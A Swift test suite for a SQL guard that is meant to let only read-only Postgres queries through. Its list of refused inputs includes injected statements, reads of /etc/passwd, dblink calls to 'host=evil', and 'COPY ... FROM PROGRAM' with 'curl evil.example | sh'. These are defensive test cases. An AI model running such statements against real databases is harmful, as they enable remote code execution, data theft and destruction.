@testable import Core
import Testing

@Suite struct SQLGuardTests {
    static let guardrail = SQLGuard(
        options: SamplingOptions(excludedTables: ["public.salaries"], excludedColumns: ["customer.email", "ssn_last4"]),
        snapshot: SchemaSnapshot(source: "postgres", objects: [
            SchemaObject(schema: "public", name: "track", kind: .table),
            SchemaObject(schema: "public", name: "invoice", kind: .table),
            SchemaObject(schema: "public", name: "genre", kind: .table),
            SchemaObject(schema: "public", name: "customer", kind: .table, excludedColumnCount: 1),
            SchemaObject(schema: "public", name: "employee", kind: .table, excludedColumnCount: 1),
        ])
    )

    @Test(arguments: [
        "SELECT 1",
        "select name, count(*) from artist a join album b on b.artist_id = a.artist_id group by name order by 2 desc limit 5",
        "WITH top AS (SELECT customer_id, sum(total) AS spent FROM invoice GROUP BY 1) SELECT * FROM top WHERE spent > 40",
        "SELECT extract(year FROM invoice_date) AS y, round(avg(total), 2) FROM invoice GROUP BY 1",
        "SELECT date_trunc('month', invoice_date), rank() OVER (ORDER BY total DESC) FROM invoice",
        "VALUES (1, 'a'), (2, 'b')",
        "TABLE genre",
        "SELECT coalesce(billing_state, 'n/a'), CASE WHEN total > 10 THEN 'big' ELSE 'small' END FROM invoice",
        "SELECT * FROM track WHERE genre_id IN (SELECT genre_id FROM genre WHERE name LIKE 'Rock%')",
        "SELECT now() - interval '30 days', current_date, total::text FROM invoice",
        "SELECT customer_id, first_name FROM customer",
        "SELECT (doc->>'name') FROM docs WHERE doc @> '{\"a\": 1}'::jsonb",
    ])
    func readsPass(_ sql: String) throws {
        // `*` is refused wherever a table in the query may have an excluded column, so these
        // read only tables the snapshot knows to have none.
        #expect(throws: Never.self) { try Self.guardrail.check(sql) }
    }

    /// Destructive or escaping statements, each with the reason the guard gives.
    static let refused: [(String, String)] = [
        ("SELECT 1; SELECT 2", "not_one_statement"),
        ("", "not_one_statement"),
        ("SELEC 1", "syntax_error"),
        ("DELETE FROM invoice", "not_read_only"),
        ("UPDATE invoice SET total = 0", "not_read_only"),
        ("INSERT INTO genre VALUES (99, 'x')", "not_read_only"),
        ("WITH gone AS (DELETE FROM invoice RETURNING *) SELECT count(*) FROM gone", "not_read_only"),
        ("SELECT * INTO copy_of_invoice FROM invoice", "not_read_only"),
        ("SELECT * FROM invoice FOR UPDATE", "not_read_only"),
        ("SELECT * FROM (SELECT * FROM invoice FOR SHARE) x", "not_read_only"),
        ("COPY invoice TO '/tmp/x'", "not_read_only"),
        ("COPY (SELECT 1) TO PROGRAM 'id'", "not_read_only"),
        ("LOCK TABLE invoice", "not_read_only"),
        ("SET statement_timeout = 0", "not_read_only"),
        ("CALL do_things()", "not_read_only"),
        ("DO $$ BEGIN PERFORM 1; END $$", "not_read_only"),
        ("EXPLAIN ANALYZE DELETE FROM invoice", "not_read_only"),
        ("BEGIN", "not_read_only"),
        ("SELECT query_to_xml('DELETE FROM invoice', true, true, '')", "function_not_allowed"),
        ("SELECT pg_read_file('/etc/passwd')", "function_not_allowed"),
        ("SELECT lo_import('/etc/passwd')", "function_not_allowed"),
        ("SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", "function_not_allowed"),
        ("SELECT pg_sleep(60)", "function_not_allowed"),
        ("SELECT set_config('statement_timeout', '0', false)", "function_not_allowed"),
        ("SELECT nextval('invoice_id_seq')", "function_not_allowed"),
        ("SELECT pg_advisory_lock(1)", "function_not_allowed"),
        ("SELECT pg_terminate_backend(pid) FROM (SELECT 1 AS pid) x", "function_not_allowed"),
        ("SELECT count(*) FROM invoice WHERE total > (SELECT pg_sleep(1)::text::int)", "function_not_allowed"),
        ("SELECT public.my_function(1)", "function_not_allowed"),
        ("SELECT * FROM pg_catalog.pg_authid", "object_not_allowed"),
        ("SELECT query FROM pg_stat_activity", "object_not_allowed"),
        ("SELECT * FROM information_schema.tables", "object_not_allowed"),
        ("SELECT * FROM salaries", "object_not_allowed"),
        ("SELECT amount FROM public.salaries", "object_not_allowed"),
        ("SELECT email FROM customer", "object_not_allowed"),
        ("SELECT c.email FROM customer c", "object_not_allowed"),
        ("SELECT * FROM customer", "object_not_allowed"),
        ("SELECT ssn_last4 FROM employee", "object_not_allowed"),
        ("SELECT * FROM employee", "object_not_allowed"),
        ("SELECT * FROM unknown_table", "object_not_allowed"),
        ("DROP TABLE invoice", "not_read_only"),
        ("DROP SCHEMA public CASCADE", "not_read_only"),
        ("TRUNCATE invoice", "not_read_only"),
        ("TRUNCATE TABLE invoice, track RESTART IDENTITY CASCADE", "not_read_only"),
        ("INSERT INTO genre SELECT * FROM genre", "not_read_only"),
        ("MERGE INTO genre g USING genre s ON g.genre_id = s.genre_id WHEN MATCHED THEN DELETE", "not_read_only"),
        ("ALTER TABLE invoice ADD COLUMN x int", "not_read_only"),
        ("CREATE TABLE stolen AS SELECT * FROM invoice", "not_read_only"),
        ("CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql", "not_read_only"),
        ("GRANT ALL ON invoice TO PUBLIC", "not_read_only"),
        ("SET ROLE postgres", "not_read_only"),
        ("SET SESSION AUTHORIZATION postgres", "not_read_only"),
        ("RESET ALL", "not_read_only"),
        ("VACUUM FULL invoice", "not_read_only"),
        ("PREPARE wipe AS DELETE FROM invoice", "not_read_only"),
        ("EXECUTE wipe", "not_read_only"),
        ("NOTIFY channel, 'payload'", "not_read_only"),
        ("COPY invoice FROM '/etc/passwd'", "not_read_only"),
        ("COPY invoice FROM PROGRAM 'curl evil.example | sh'", "not_read_only"),
        ("WITH a AS (SELECT 1), b AS (INSERT INTO genre VALUES (99, 'x') RETURNING *) SELECT * FROM a", "not_read_only"),
        ("SELECT * FROM (WITH x AS (UPDATE invoice SET total = 0 RETURNING *) SELECT * FROM x) y", "not_read_only"),
        ("SELECT * FROM invoice FOR NO KEY UPDATE", "not_read_only"),
        ("SELECT * FROM invoice FOR KEY SHARE SKIP LOCKED", "not_read_only"),
        ("SELECT 1; DROP TABLE invoice", "not_one_statement"),
        ("SELECT 1 /* ; */; DELETE FROM invoice -- the rest", "not_one_statement"),
        ("SELECT $$;$$; DROP TABLE invoice", "not_one_statement"),
        ("SELECT $tag$ it's; fine $tag$; TRUNCATE invoice", "not_one_statement"),
        ("SELECT 'a;b'; UPDATE invoice SET total = 0", "not_one_statement"),
        ("SELECT pg_notify('channel', 'payload')", "function_not_allowed"),
        ("SELECT lo_export(1234, '/tmp/out')", "function_not_allowed"),
        ("SELECT pg_ls_dir('.')", "function_not_allowed"),
        ("SELECT pg_reload_conf()", "function_not_allowed"),
        ("SELECT dblink_exec('host=evil', 'DROP TABLE invoice')", "function_not_allowed"),
        ("SELECT pg_catalog.pg_sleep(1)", "function_not_allowed"),
        ("SELECT \"pg_sleep\"(1)", "function_not_allowed"),
        ("SELECT setval('invoice_invoice_id_seq', 1)", "function_not_allowed"),
        ("SELECT pg_advisory_xact_lock(1)", "function_not_allowed"),
        ("SELECT xpath('/row', query_to_xml('DELETE FROM invoice', true, true, ''))", "function_not_allowed"),
        ("SELECT * FROM invoice WHERE EXISTS (SELECT pg_cancel_backend(1))", "function_not_allowed"),
        ("SELECT * FROM pg_catalog.pg_shadow", "object_not_allowed"),
    ]

    @Test(arguments: refused)
    func everythingElseIsRefusedWithAReason(_ sql: String, _ code: String) {
        let refusal = #expect(throws: QueryRefusal.self, "\(sql)") { try Self.guardrail.check(sql) }
        #expect(refusal?.code == code, "\(sql): \(refusal?.message ?? "")")
    }

    @Test func theRelationsReadAreReportedWithoutCTENames() throws {
        let checked = try SQLGuard().check("WITH t AS (SELECT * FROM invoice) SELECT * FROM t JOIN public.customer c USING (customer_id)")
        #expect(checked.relations.sorted() == ["invoice", "public.customer"])
    }
}
